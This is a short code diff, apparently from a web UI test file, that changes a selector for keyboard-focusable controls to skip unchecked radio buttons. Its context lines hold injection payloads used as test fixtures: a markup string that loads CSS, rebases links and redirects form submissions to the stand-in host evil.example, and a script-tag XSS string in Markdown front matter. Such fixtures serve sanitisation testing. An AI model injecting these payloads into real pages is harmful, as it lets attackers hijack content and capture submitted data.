@@ -23,7 +23,9 @@ const ATTACKS = [
   '"><style>@import "//evil.example/a.css"</style><base href="//evil.example/"><form action="//evil.example/">',
 ]
 
-const CONTROLS = 'a[href], button, input, select, summary, [tabindex="0"]'
+/** Of a group of radio buttons Tab reaches the chosen one; the arrow keys lead to the others. */
+const CONTROLS =
+  'a[href], button, input:not([type=radio]:not(:checked)), textarea, select, summary, [tabindex="0"]'
 
 const HOSTILE_MARKDOWN = `---
 title: '"><script>alert(1)</script> in a title'
